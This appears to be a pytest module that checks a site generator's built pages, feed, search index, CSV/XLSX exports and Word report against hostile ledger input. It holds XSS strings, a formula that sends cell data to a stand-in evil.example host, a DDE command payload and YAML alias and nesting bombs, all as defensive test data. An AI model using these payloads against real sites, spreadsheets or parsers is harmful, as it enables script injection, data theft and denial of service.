"""Hostile input: ledger text that tries to run script, spreadsheet formulas, and files built to exhaust the machine.

Each protection is tested on what the user gets: the built site (every page, the feed, the search index,
tasks.json/csv/xlsx, a published snapshot with its monthly report and report.docx), or what `portal validate`
prints. docs/bad-input.md lists every bad input tried with what the user sees; the last test keeps that table
and these tests in step.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import os
import posixpath
import re
import resource
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
import zipfile
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

import docx
import openpyxl
import pytest

from conftest import PORTAL, REPO, Build, GitProject, copy_project, run_build
from htmlq import El, parse
from portal.config import PortalConfig
from portal.ledger import model
from portal.ledger.load import load_text, slugify
from portal.ledger.schema import MAX_ITEMS, MAX_TEXT, MAX_TITLE
from portal.ledger.yamlread import MAX_BYTES, MAX_DEPTH
from portal.outputs.site import Site
from portal.problems import LedgerError
from portal.survey import survey

AS_OF = dt.date(2020, 9, 30)  # the sample mkdocs.yml's as_of

# --- the payloads -------------------------------------------------------------------------------------------------

XSS = {
    "script": "<script>alert(1)</script>",
    "img": "<img src=x onerror=alert(1)>",
    "iframe": "<iframe src=javascript:alert(1)>",
    "md_link": "[点我](javascript:alert(1))",
    "a_link": '<a href="javascript:alert(1)">x</a>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "attr_break": '"><script>alert(1)</script>',
    "template": "{{ 7*7 }}",
}
KINDS = list(XSS)
MARKDOWN_FIELDS = ["板块说明", "任务一内容", "任务一问题", "措施一", "措施二", "措施三", "进展一", "进展二",
                   "任务二内容", "小节说明"]
HTML_KINDS = {"script", "img", "iframe", "a_link", "svg", "attr_break"}
TEMPLATE_RENDERED = "49"  # what {{ 7*7 }} would become if any template engine evaluated it
# More ways to spell a script link in Markdown, put into the Markdown fields besides the list above.
MD_LINKS = [
    "[制表符](java&#9;script:alert(1))",
    "[实体](&#106;avascript:alert(1))",
    "[引用][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![图片](javascript:alert(1))",
    "![外链图片](https://evil.example/x.png)",
    "[大小写](JaVaScRiPt:alert(1))",
    "[数据](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[标题](https://example.gov.cn \"t\\\" onmouseover=alert(1) x=\\\"\")",
]
# Links that pass validation (http(s), mailto or relative) but try to leave the attribute.
EVIDENCE_URLS = ["https://example.gov.cn/x' onmouseover='alert(1)", "材料/x' onclick='alert(1)'.pdf",
                 "mailto:a@example.gov.cn?subject={{ 7*7 }}"]


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(text, ensure_ascii=False)


@dataclass(frozen=True)
class Variant:
    """The hostile project or its clean twin: the same plan, commits and pages with harmless words."""

    hostile: bool

    def text(self, label: str, kind: str) -> str:
        """A field's value: a label naming the field, then the payload (or harmless words)."""
        return label + (XSS[kind] if self.hostile else "内容")

    def md(self, label: str, kind: str, extra: int) -> str:
        return self.text(label, kind) + (" " + MD_LINKS[extra % len(MD_LINKS)] if self.hostile else "")

    @property
    def depts(self) -> list[str]:
        """Registry names: the first has no slug (so slugify meets the payload), the second sets one."""
        if self.hostile:
            return ["部门" + XSS["script"], "科室" + XSS["attr_break"], "集体" + XSS["template"]]
        return ["部门甲", "科室乙", "集体丙"]

    @property
    def alias(self) -> str:
        return "别名" + (XSS["img"] if self.hostile else "丁")


class Fields:
    """Hands each field the next payload in turn, so that every kind lands in several kinds of field."""

    def __init__(self, variant: Variant) -> None:
        self.v = variant
        self.n = 0
        self.used: dict[str, str] = {}  # label -> value, for the assertions
        self.kinds: dict[str, str] = {}  # label -> the kind of payload it carries

    def __call__(self, label: str, md: bool = False, block: bool = False) -> str:
        """The next value; ``block`` puts the payload in a paragraph of its own, as block-level Markdown."""
        kind = KINDS[self.n % len(KINDS)]
        value = self.v.md(label, kind, self.n) if md else self.v.text(label, kind)
        if block:
            value = f"{label}\n\n<div>{self.v.text(label, kind)}</div>\n\n{value}"
        self.n += 1
        self.used[label] = value
        self.kinds[label] = kind
        return q(value)


def registry(v: Variant) -> str:
    d1, d2, d3 = v.depts
    return (f"departments:\n  - name: {q(d1)}\n    aliases: [{q(v.alias)}]\n  - name: {q(d2)}\n    slug: d2\n"
            f"  - name: {q(d3)}\n    kind: group\n  - name: 办公室\n")


def ledger(v: Variant, second: bool) -> tuple[str, Fields]:
    """The ledger as first committed (second=False) and as changed later (second=True): new title, status,
    update, lead (written as the registry alias), a postponed deadline, a task removed."""
    f = Fields(v)
    d1, d2, d3 = v.depts
    evidence = EVIDENCE_URLS if v.hostile else ["https://example.gov.cn/a", "材料/a.pdf", "mailto:a@example.gov.cn"]
    lines = [
        "plan:", "  id: hx", f"  title: {f('方案名称')}", "  year: 2020", f"  issuer: {f('制定单位')}",
        f"  source: {f('文件依据')}",
        "sections:",
        "  - id: s1", f"    number: {f('板块序号')}", f"    title: {f('板块标题')}",
        f"    details: {f('板块说明', md=True)}", f"    leader: {f('板块领导')}",
        f"    lead: [{q(v.alias) if second else q(d1)}]", f"    units: [{q(d3)}]",
        "    tasks:",
        "      - id: t1", f"        number: {f('任务序号')}",
        f"        title: {f('任务一新标题') if second else f('任务一标题')}",
        f"        details: {f('任务一内容', md=True)}", f"        problem: {f('任务一问题', md=True)}",
        f"        measures: [{f('措施一', md=True)}, {f('措施二', md=True)}, {f('措施三', md=True)}]",
        f"        leader: {f('任务一领导')}",
        "        deadline:", f"          - text: {f('期限原文')}", "            due: 2020-06-30",
        f"        status: {'进行中' if second else '未启动'}", f"        percent: {50 if second else 0}",
        "        metrics:",
        f"          - name: {f('指标名称')}", "            target: 10", "            actual: 5",
        f"            unit: {f('指标单位')}",
        f"          - name: {f('文字指标')}", f"            target: {f('目标文字')}",
        "        updates:",
        "          - date: 2020-06-01", f"            text: {f('进展一', md=True)}", f"            by: {f('填报一')}",
    ]
    if second:
        lines += ["          - date: 2020-08-15", f"            text: {f('进展二', md=True)}",
                  f"            by: {f('填报二')}"]
    lines += [
        "        evidence:",
        f"          - title: {f('佐证名称')}", f"            url: {q(evidence[0])}",
        f"          - {q(evidence[1])}",
        f"          - title: {f('佐证邮件')}", f"            url: {q(evidence[2])}",
        f"        tags: [{f('标签一')}, {f('标签二')}]",
        "      - id: t2", f"        title: {f('任务二标题')}", f"        details: {f('任务二内容', md=True)}",
        f"        problem: {f('任务二问题', md=True, block=True)}",
        f"        lead: [{q(d2)}]", f"        deadline: {'10月上旬' if second else '9月底前'}",
        "        status: 进行中", "        percent: 30",
        "    sections:",
        "      - id: s1-1", '        number: "1."', f"        title: {f('小节标题')}",
        f"        details: {f('小节说明', md=True)}",
        "        tasks:",
        "          - id: t3", f"            title: {f('任务三标题')}", "            deadline: 长期坚持",
        "            status: 长期坚持",
    ]
    if not second:
        lines += ["          - id: t4", f"            title: {f('任务四标题')}", "            deadline: 年底前"]
    return "\n".join(lines) + "\n", f


def make_project(path: Path, v: Variant) -> tuple[GitProject, Fields]:
    """Two commits of the ledger under git (so the changelog, feed and card timelines carry its text) and a
    published snapshot of September 2020 (so the monthly report and report.docx do too)."""
    repo = GitProject(path, registry(v))
    first, _ = ledger(v, second=False)
    repo.write(first)
    subject = "建立台账" + (XSS["script"] if v.hostile else "")
    author = "张三" + ('"><svg onload=alert(1)>{{ 7*7 }}' if v.hostile else "")
    repo.commit(subject, "2020-06-10T10:00:00+08:00", author, "tasks.yaml")
    second, fields = ledger(v, second=True)
    repo.write(second)
    repo.commit("8月进展" + (XSS["img"] if v.hostile else ""), "2020-08-20T10:00:00+08:00", "李四", "tasks.yaml")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    snap = subprocess.run([str(PORTAL), "snapshot", "2020-09"], cwd=path, env=env, capture_output=True, text=True,
                          timeout=600)
    assert snap.returncode == 0, snap.stderr
    return repo, fields


@dataclass
class Built:
    build: Build
    used: dict[str, str]  # field label -> the value written
    kinds: dict[str, str]  # field label -> the kind of payload in it
    variant: Variant

    @property
    def site(self) -> Path:
        return self.build.site


def _build(tmp: Path, v: Variant) -> Built:
    repo, fields = make_project(tmp / "repo", v)
    build = run_build(repo.path, tmp / "site")
    assert build.returncode == 0, build.stderr
    assert "Traceback" not in build.stderr
    return Built(build, fields.used, fields.kinds, v)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Built:
    return _build(tmp_path_factory.mktemp("hostile"), Variant(hostile=True))


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> Built:
    return _build(tmp_path_factory.mktemp("clean"), Variant(hostile=False))


# --- reading built HTML -------------------------------------------------------------------------------------------

URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "cite", "ping",
             "longdesc", "manifest", "codebase", "dynsrc", "lowsrc", "srcdoc"}
SCRIPT_SCHEMES = {"javascript", "vbscript", "data"}
NAVIGATION_RELS = {"prev", "next", "canonical", "alternate"}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "foreignobject", "portal"}
# Elements that load or run something: per page, the hostile site must have exactly what the clean one has.
ACTIVE_TAGS = {"script", "link", "style", "svg", "img", "iframe", "object", "embed", "form", "input", "button",
               "video", "audio", "source", "track", "template", "math", "meta", "image", "use", "animate", "set"}


def scheme(url: str) -> str:
    """The scheme a browser would see: tabs and line breaks removed, C0 controls and spaces stripped at the ends.

    html.parser has already decoded character references in attribute values.
    """
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(chr(c) for c in range(0x21)))
    m = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", cleaned)
    return m[1].lower() if m else ""


def violations(root: El, where: str) -> list[str]:
    """Everything in a parsed tree that could run script."""
    out = []
    for el in root.iter():
        if el.tag in FORBIDDEN_TAGS:
            out.append(f"{where}: <{el.tag}>")
        if el.tag == "meta" and el.attrs.get("http-equiv", "").lower() == "refresh":
            out.append(f"{where}: meta refresh")
        for name, value in el.attrs.items():
            if name.startswith("on"):
                out.append(f"{where}: <{el.tag} {name}={value!r}>")
            if name in URL_ATTRS and scheme(value) in SCRIPT_SCHEMES:
                out.append(f"{where}: <{el.tag} {name}={value!r}>")
        if el.tag == "svg":
            out += [f"{where}: <svg> with <{d.tag}>" for d in el.iter() if d.tag in {"script", "foreignobject"}]
    return out


def resolve(page: str, url: str) -> str:
    """A script or stylesheet URL as a path from the site root (the 404 page's are already absolute)."""
    if url.startswith("/") or re.match(r"[a-z]+:", url):
        return url
    return posixpath.normpath(posixpath.join(posixpath.dirname(page), url))


def active(root: El, page: str) -> Counter[tuple[str, ...]]:
    """What a page loads or runs: scripts by source or inline text, stylesheets by address, and the other
    active elements by name."""
    out: Counter[tuple[str, ...]] = Counter()
    for el in root.iter():
        if el.tag == "script":
            src = el.attrs.get("src")
            out["script", resolve(page, src) if src is not None else "inline:" + el.text] += 1
        elif el.tag == "link" and el.attrs.get("rel") in NAVIGATION_RELS:  # names pages, loads nothing
            out["link", el.attrs["rel"]] += 1
        elif el.tag == "link":
            out["link", el.attrs.get("rel", ""), resolve(page, el.attrs.get("href", ""))] += 1
        elif el.tag == "style":
            out["style", el.text] += 1
        elif el.tag in ACTIVE_TAGS:
            out[(el.tag,)] += 1
    return out


def html_pages(site: Path) -> dict[str, El]:
    """Every built HTML page (portal pages, hand-written pages, 404, the snapshot's pages) by path."""
    return {p.relative_to(site).as_posix(): parse(p.read_text(encoding="utf-8")) for p in sorted(site.rglob("*.html"))}


def clean_path(page: str, hostile: Built, clean: Built) -> str:
    """The clean twin of a hostile page's path: department pages are named after the registry names."""
    for h, c in zip(hostile.variant.depts, clean.variant.depts, strict=True):
        page = page.replace(f"departments/{slugify(h)}/", f"departments/{slugify(c)}/")
    return page


# --- inert content: every built file -----------------------------------------------------------------------------


def test_hostile_site_builds_with_every_kind_of_page(hostile: Built) -> None:
    pages = set(html_pages(hostile.site))
    assert {"index.html", "404.html", "hx/s1/index.html", "table/index.html", "overdue/index.html",
            "changelog/index.html", "archive/index.html", "archive/2020-09/report/index.html",
            "archive/2020-09/month/index.html", "archive/2020-09/hx/s1/index.html"} <= pages
    assert f"departments/{slugify(hostile.variant.depts[0])}/index.html" in pages
    assert (hostile.site / "archive" / "2020-09" / "report.docx").exists()


def test_every_page_runs_only_the_sites_own_scripts(hostile: Built, clean: Built) -> None:
    """Per page, the scripts (by source, or inline text), stylesheets and other active elements are exactly
    those of the same page built from the clean twin of the ledger."""
    bad, good = html_pages(hostile.site), html_pages(clean.site)
    assert {clean_path(p, hostile, clean) for p in bad} == set(good)
    for page, root in bad.items():
        twin = clean_path(page, hostile, clean)
        assert active(root, page) == active(good[twin], twin), page


def test_no_handler_script_link_iframe_or_scripted_svg_anywhere(hostile: Built, clean: Built) -> None:
    found = [v for page, root in html_pages(hostile.site).items() for v in violations(root, page)]
    assert not found, found[:10]
    assert not [v for page, root in html_pages(clean.site).items() for v in violations(root, page)]


def test_every_payload_is_shown_as_the_text_that_was_written(hostile: Built) -> None:
    """Escaped, not stripped: the reader sees what the editor typed, and no page shows it twice escaped."""
    pages = html_pages(hostile.site)
    section = pages["hx/s1/index.html"].find("article").text
    for label in ("任务一新标题", "任务序号", "任务一领导", "期限原文", "指标名称", "指标单位", "目标文字", "填报一",
                  "填报二", "佐证名称", "标签一", "标签二", "任务二标题", "小节标题", "任务三标题", "板块领导"):
        assert hostile.used[label] in section, label
    # Markdown fields: raw HTML is not read as HTML (then removed by nh3) but stays visible as the text typed
    checked = [label for label in MARKDOWN_FIELDS if hostile.kinds[label] in HTML_KINDS]
    assert len({hostile.kinds[label] for label in checked}) >= 4
    for label in checked:
        assert label + XSS[hostile.kinds[label]] in section, label
    # a paragraph that starts with a tag is not a raw HTML block either
    assert f"<div>任务二问题{XSS[hostile.kinds['任务二问题']]}</div>" in section
    for page, root in pages.items():
        text = root.text
        assert "&lt;script" not in text and "&amp;lt;" not in text, page


def test_template_syntax_stays_literal(hostile: Built) -> None:
    """'{{ 7*7 }}' in any field is printed as written and never evaluated, in any output file."""
    template_labels = [label for label, value in hostile.used.items() if value.endswith(XSS["template"])]
    assert len(template_labels) >= 3
    section = html_pages(hostile.site)["hx/s1/index.html"].text
    assert any(label + XSS["template"] in section for label in template_labels)
    for path in hostile.site.rglob("*"):
        if path.is_file() and path.suffix in {".html", ".xml", ".json", ".csv", ".txt"}:
            text = html.unescape(path.read_text(encoding="utf-8-sig"))
            for label in [*template_labels, "集体", "张三\"><svg onload=alert(1)>"]:
                assert label + TEMPLATE_RENDERED not in text, (path, label)


def test_search_index_titles_and_text_are_inert_html(hostile: Built) -> None:
    index = json.loads((hostile.site / "search" / "search_index.json").read_text(encoding="utf-8"))
    shown = ""
    for doc in index["docs"]:
        for key in ("title", "text"):
            root = parse(doc[key])
            found = violations(root, f"{doc['location']} {key}")
            assert not found, found
            assert not root.find_all(pred=lambda el: el.tag in {"script", "img", "svg", "iframe", "a", "style"})
            shown += root.text.replace("\u200b", "")  # Material's word breaks
    for label in ("任务一新标题", "任务序号", "板块标题", "板块说明", "任务一领导", "期限原文"):
        assert hostile.used[label].split(" ")[0] in shown, label  # as text (Markdown fields: up to the link)


def test_feed_is_well_formed_and_its_html_inert(hostile: Built) -> None:
    ns = {"a": "http://www.w3.org/2005/Atom"}
    root = ET.parse(hostile.site / "feed.xml").getroot()  # well-formed XML
    entries = root.findall("a:entry", ns)
    assert len(entries) == 2
    titles = [e.findtext("a:title", namespaces=ns) for e in entries]
    assert titles == ["8月进展" + XSS["img"], "建立台账" + XSS["script"]]  # plain text, as committed
    content = ""
    for entry in entries:
        inner = parse(entry.findtext("a:content", namespaces=ns) or "")
        assert not violations(inner, "feed"), violations(inner, "feed")
        assert not inner.find_all(pred=lambda el: el.tag not in {"#root", "ul", "li"})
        content += inner.text
    assert hostile.used["任务一新标题"] in content


def test_tasks_json_and_csv_carry_the_text_unchanged(hostile: Built) -> None:
    def no_constants(name: str) -> float:
        raise ValueError(f"not JSON: {name}")

    data = json.loads((hostile.site / "tasks.json").read_text(encoding="utf-8"), parse_constant=no_constants)
    tasks = {t["id"]: t for t in data["tasks"]}
    assert tasks["t1"]["title"] == hostile.used["任务一新标题"]
    assert tasks["t1"]["updates"][1]["text"] == hostile.used["进展二"]
    assert data["plans"][0]["title"] == hostile.used["方案名称"]
    rows = list(csv.reader(io.StringIO((hostile.site / "tasks.csv").read_text(encoding="utf-8-sig"))))
    t1 = next(r for r in rows if r[3] == "t1")
    assert t1[4] == tasks["t1"]["title"] and t1[0] == data["plans"][0]["title"]


def test_monthly_report_page_and_word_document_are_inert(hostile: Built) -> None:
    month = hostile.site / "archive" / "2020-09"
    page = parse((month / "report" / "index.html").read_text(encoding="utf-8")).find("article")
    title = hostile.used["任务一新标题"]
    assert title in page.text and not violations(page, "report")
    document = docx.Document(str(month / "report.docx"))
    text = "\n".join(p.text for p in document.paragraphs)
    assert title in text and hostile.used["方案名称"] in text
    with zipfile.ZipFile(month / "report.docx") as z:
        body = z.read("word/document.xml").decode("utf-8")
        ET.fromstring(body)  # well-formed
        assert "w:instrText" not in body and "w:fldSimple" not in body and "w:hyperlink" not in body
        rels = z.read("word/_rels/document.xml.rels").decode("utf-8")
        assert 'TargetMode="External"' not in rels


def test_xlsx_of_the_hostile_ledger_has_text_only(hostile: Built) -> None:
    wb = openpyxl.load_workbook(hostile.site / "tasks.xlsx")
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None
                values.append(str(cell.value))
    assert hostile.used["任务一新标题"] in values


# --- spreadsheet safety ---------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_ledger() -> str:
    """Every payload in a field that both tasks.csv and tasks.xlsx show (details: only the xlsx)."""
    f = [q(x) for x in FORMULAS]
    return f"""\
plan:
  id: fx
  title: {f[0]}
  year: 2020
sections:
  - id: s1
    number: {f[1]}
    title: 板块
    lead: [{q("@部门")}]
    units: [{q("-单位")}]
    tasks:
      - id: t1
        number: {f[2]}
        title: {f[3]}
        details: {f[4]}
        leader: {f[4]}
        deadline:
          - text: {f[5]}
            due: 2020-06-30
        status: 进行中
        percent: 10
        updates:
          - date: 2020-06-01
            text: {f[6]}
      - id: t2
        number: {f[5]}
        title: {f[6]}
        leader: {f[0]}
        status: 未启动
"""


@pytest.fixture(scope="module")
def formula_build(tmp_path_factory: pytest.TempPathFactory) -> Build:
    project = copy_project(tmp_path_factory.mktemp("formula") / "p")
    (project / "departments.yaml").write_text(f"departments:\n  - name: {q('@部门')}\n  - name: {q('-单位')}\n",
                                              encoding="utf-8")
    (project / "tasks.yaml").write_text(formula_ledger(), encoding="utf-8")
    build = run_build(project)
    assert build.returncode == 0, build.stderr
    return build


def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(formula_build: Build) -> None:
    text = (formula_build.site / "tasks.csv").read_bytes().decode("utf-8-sig")  # keep a lone \r
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for payload in FORMULAS:
        assert any(c.startswith("'" + payload) for c in cells), payload


def _xlsx_strings(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    out.append(cell.value)
    return out


def test_xlsx_has_no_formula_cell_and_the_texts_start_with_an_apostrophe(formula_build: Build) -> None:
    cells = _xlsx_strings(formula_build.site / "tasks.xlsx")
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for payload in FORMULAS:
        assert any(c.startswith("'" + payload) for c in cells), payload
    assert "'@部门" in cells and "'-单位" in cells  # the names in the summary sheet too


def test_portal_export_neutralises_formulas_too(formula_build: Build, tmp_path: Path) -> None:
    project = formula_build.site.parent
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"export.{fmt}"
        done = subprocess.run([str(PORTAL), "export", fmt, "-o", str(out), "-f", str(project / "mkdocs.yml")],
                              cwd=project, capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr
    text = (tmp_path / "export.csv").read_bytes().decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert not [c for c in _xlsx_strings(tmp_path / "export.xlsx") if c.startswith(FORMULA_START)]


# --- resource bombs -------------------------------------------------------------------------------------------------

MEMORY_LIMIT = 2 * 1024**3
TIME_LIMIT = 30.0
HEAD = ("plan:\n  id: p\n  title: 方案\n  year: 2020\nsections:\n  - id: s1\n    title: 板块\n    lead: [办公室]\n"
        "    tasks:\n")


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


@dataclass
class Outcome:
    returncode: int
    stderr: str
    stdout: str
    seconds: float


def run_limited(project: Path, *args: str) -> Outcome:
    """A portal command in a process limited to 2 GiB of address space and 60 s."""
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    start = time.monotonic()
    proc = subprocess.run([str(PORTAL), *args], cwd=project, env=env, capture_output=True, text=True, timeout=60,
                          preexec_fn=_limit_memory)
    return Outcome(proc.returncode, proc.stderr, proc.stdout, time.monotonic() - start)


def validate_file(tmp_path: Path, content: str | bytes) -> Outcome:
    project = copy_project(tmp_path / "p")
    path = project / "tasks.yaml"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return run_limited(project, "validate")


def assert_refused(out: Outcome, message: str, where: str = r"\d+:\d+: ") -> None:
    """Exit code 1, the message at file:line:column (or the file, for file-level problems), no traceback, quick."""
    assert out.returncode == 1, out.stderr[-2000:]
    assert "Traceback" not in out.stderr, out.stderr[-3000:]
    assert re.search(rf"^tasks\.yaml:{where}{re.escape(message)}", out.stderr, re.M), out.stderr[:2000]
    assert out.seconds < TIME_LIMIT, out.seconds


def billion_laughs() -> str:
    """Ten levels of nine aliases each: 9**9 updates if anything expanded them."""
    text = HEAD + "      - id: t0\n        title: lol\n        updates: [&l0 {date: 2020-01-01, text: lol}]\n"
    for k in range(1, 10):
        aliases = ", ".join([f"*l{k - 1}"] * 9)
        text += f"      - id: t{k}\n        title: lol\n        updates: &l{k} [{aliases}]\n"
    return text


def test_alias_bomb_is_refused(tmp_path: Path) -> None:
    out = validate_file(tmp_path, billion_laughs())
    # reported where the anchor (&l0) stands, once per alias of it
    assert_refused(out, "不支持对列表或映射使用 YAML 别名（*引用）：请直接写出内容", "12:19: ")


def test_aliased_section_is_refused(tmp_path: Path) -> None:
    text = HEAD.replace("  - id: s1\n", "  - &s\n    id: s1\n") + "      - id: t1\n        title: x\n  - *s\n"
    assert_refused(validate_file(tmp_path, text), "不支持对列表或映射使用 YAML 别名", "6:5: ")


@pytest.mark.parametrize("shape", ["flow", "block", "dash", "question", "text"])
def test_nesting_thousands_deep_is_refused(shape: str, tmp_path: Path) -> None:
    levels = 5000
    text = {
        "flow": "plan: " + "[" * levels + "]" * levels + "\n",
        "block": "plan:\n" + "".join(" " * i + f"k{i}:\n" for i in range(1, levels)),
        "dash": "plan:\n  " + "- " * levels + "x\n",
        "question": "? " * levels * 4 + "a\n",  # explicit keys nest on one line too
        # Brackets are counted before YAML reads anything, so 65 unclosed ones inside a text are refused too.
        "text": HEAD + f"      - id: t1\n        title: {q('[' * 65)}\n",
    }[shape]
    assert_refused(validate_file(tmp_path, text), f"嵌套层级过深（超过 {MAX_DEPTH} 层），已拒绝读取")


def test_fifty_megabyte_ledger_is_refused_before_parsing(tmp_path: Path) -> None:
    chunk = "".join(f"      - id: t{i}\n        title: 第{i}项任务\n        status: 进行中\n        percent: 50\n"
                    for i in range(10000))
    body = [HEAD]
    n = 0
    while sum(len(b.encode()) for b in body) < 50 * 1024 * 1024:
        n += 1
        body.append(f"  - id: s{n}x\n    title: 板块\n    tasks:\n" + chunk.replace("id: t", f"id: s{n}t"))
    out = validate_file(tmp_path, "".join(body))
    assert_refused(out, f"文件过大（超过 {MAX_BYTES // 1024**2} MiB），已拒绝读取", " ")


def test_a_five_megabyte_ledger_is_read_in_bounded_time(tmp_path: Path) -> None:
    """Below the limits a large ledger is simply read (about 10,000 tasks)."""
    task = ("      - id: t{i}\n        title: 第{i}项任务：组织开展专项检查并形成报告\n        deadline: 6月底前\n"
            "        status: 进行中\n        percent: 50\n        updates:\n          - date: 2020-06-01\n"
            "            text: 已完成第一阶段工作，形成检查报告初稿，正在征求各科室意见。\n")
    tasks = "".join(task.format(i=i) for i in range(10000))
    out = validate_file(tmp_path, HEAD + tasks)
    assert out.returncode == 0, out.stderr[-2000:]
    assert "10000 项任务" in out.stdout and out.seconds < TIME_LIMIT


@pytest.mark.parametrize(("where", "limit"), [("task", MAX_TITLE), ("plan", MAX_TEXT)])
def test_hundred_thousand_character_title_is_refused(where: str, limit: int, tmp_path: Path) -> None:
    long = "长" * 100_000
    text = (HEAD.replace("title: 方案", f"title: {long}") + "      - id: t1\n        title: x\n" if where == "plan"
            else HEAD + f"      - id: t1\n        title: {long}\n")
    out = validate_file(tmp_path, text)
    assert_refused(out, f"这段文字有 100000 个字符，超过上限 {limit}")
    assert long not in out.stderr  # the message does not repeat the text


def test_hundred_thousand_updates_are_refused(tmp_path: Path) -> None:
    updates = "          - date: 2020-06-01\n            text: 进展\n" * 100_000
    out = validate_file(tmp_path, HEAD + "      - id: t1\n        title: x\n        updates:\n" + updates)
    assert_refused(out, f"这个列表有 100000 项，超过上限 {MAX_ITEMS}", "13:11: ")


@pytest.mark.parametrize(("text", "where"), [
    ("      - id: t1\n        title: 任务\x0b标题\n", "11:18: "),  # raw, as pasted from Word
    ('      - id: t1\n        title: "任务\\x01标题"\n', "11:16: "),  # escaped in a quoted string
    ('      - id: t1\n        title: "任务\\uFFFE标题"\n', "11:16: "),
], ids=["raw-vt", "escaped-x01", "escaped-fffe"])
def test_control_characters_are_refused_at_their_place(text: str, where: str, tmp_path: Path) -> None:
    out = validate_file(tmp_path, HEAD + text)
    assert_refused(out, "这里有不可见的控制字符 U+", where)


def test_deadline_made_to_backtrack_is_answered_at_once(tmp_path: Path) -> None:
    out = validate_file(tmp_path, HEAD + "      - id: t1\n        title: x\n        deadline: 6月底前"
                        + "分别在" * 40 + "x\n")
    assert_refused(out, "无法识别期限“6月底前分别在", "12:19: ")


@pytest.mark.parametrize("url", ["java\tscript:alert(1)", "javascript\r:alert(1)", "\x01javascript:alert(1)",
                                 " javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x",
                                 'https://x/"><script>'],
                         ids=["tab", "cr", "x01", "leading-space", "mixed-case", "data", "quote-angle"])
def test_script_links_are_refused_however_spelt(url: str) -> None:
    text = HEAD + f"      - id: t1\n        title: x\n        evidence:\n          - {q(url)}\n"
    with pytest.raises(LedgerError) as info:
        load_text(text, as_of=AS_OF)
    assert [(p.code, p.line) for p in info.value.problems.errors] in ([("bad_url", 13)], [("bad_char", 13)])


def test_costly_markdown_and_odd_numbers_still_build(tmp_path: Path) -> None:
    """Valid but costly text: '[](' 6,000 times (Python-Markdown's time grows with '[' times the length: 6 s for
    this one text), lists nested 2,000 deep (it recurses per level) and a figure of 1.0e+999 (inf, which JSON
    cannot carry)."""
    project = copy_project(tmp_path / "p")
    text = HEAD + (f"      - id: t1\n        title: x\n        details: {q('[](' * 6000)}\n"
                   f"        measures: [{q('1. ' * 2000)}, {q('- ' * 3000 + 'x')}]\n"
                   f"        problem: {q('[a](' * 4000)}\n"
                   "        metrics:\n          - name: 指标\n            target: 1.0e+999\n            actual: 5\n")
    (project / "tasks.yaml").write_text(text, encoding="utf-8")
    start = time.monotonic()
    build = run_build(project)
    assert build.returncode == 0, build.stderr[-3000:]
    assert "Traceback" not in build.stderr
    assert time.monotonic() - start < 60
    page = parse(build.page("p/s1/index.html")).find("article", cls="pp-card")
    assert "[](" * 100 in page.text and "1. 1. 1." in page.text  # shown as the text it is
    json.loads((build.site / "tasks.json").read_text(encoding="utf-8"),
               parse_constant=lambda name: (_ for _ in ()).throw(ValueError(name)))


@pytest.mark.parametrize("text", ["[](" * 6600, "[a](" * 5000, "1. " * 2000],
                         ids=["empty-links", "open-links", "nested-lists"])
def test_costly_markdown_is_shown_as_plain_text_quickly(text: str) -> None:
    """Without the bound, Python-Markdown takes 7 s and 5 s for the first two texts and overflows the stack on
    the third; with it each is plain text in milliseconds."""
    plan = load_text(HEAD + "      - id: t1\n        title: x\n", as_of=AS_OF)
    site = Site(survey(model.Ledger([plan]), AS_OF), PortalConfig(), REPO / "overrides" / "portal")
    start = time.perf_counter()
    out = str(site.markdown(text))
    assert time.perf_counter() - start < 1.0
    assert out.startswith("<p>") and html.unescape(out[3:-4]) == text.strip()


def test_portal_fmt_refuses_bombs_quickly(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "p")
    for name, text in (("laughs.yaml", billion_laughs()), ("deep.yaml", "? " * 20_000 + "a\n")):
        (project / name).write_text(text, encoding="utf-8")
        out = run_limited(project, "fmt", "--check", name)
        assert out.returncode == 1 and "Traceback" not in out.stderr, out.stderr[-2000:]
        assert out.seconds < TIME_LIMIT
        assert re.match(rf"{name}: \d+:\d+: ", out.stderr), out.stderr


# --- the documentation table ----------------------------------------------------------------------------------------

